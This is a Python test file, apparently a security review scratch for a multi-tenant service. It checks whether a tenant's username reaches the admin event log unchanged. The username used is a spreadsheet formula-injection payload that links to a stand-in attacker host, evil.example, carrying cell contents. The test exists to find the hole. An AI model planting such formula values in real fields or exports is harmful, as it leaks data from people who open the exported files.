"""Review scratch: a tenant's user name lands verbatim as the actor of its events."""
from __future__ import annotations

import json

from deskbroker.bootstrap import add_local_user
from tests.helpers import ADMIN_PASSWORD, USER_PASSWORD, Api
from tests.isolation_world import login

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"details")'


def test_formula_name_reaches_the_event_log(api: Api) -> None:
    api.post("tenants", {"name": "b", "display_name": "b corp"})
    add_local_user(api.ctx, "b-boss", ADMIN_PASSWORD, role="tenant_admin", tenant_name="b")
    api.ctx.cache.invalidate()
    b = Api(api.client, api.ctx, login(api.client, "b-boss", ADMIN_PASSWORD, "b"))
    src = b.get("identity-sources")["items"][0]["id"]
    b.post("users", {"identity_source_id": src, "username": EVIL, "password": USER_PASSWORD})
    login(api.client, EVIL, USER_PASSWORD, "b")
    rows = api.get("events?limit=1000")["items"]  # the global admin's console loads these
    hits = [r for r in rows if r["actor"] == EVIL]
    print("events with the formula as actor:", [r["kind"] for r in hits])
    assert hits
    open("/tmp/review/events.json", "w").write(json.dumps(rows))
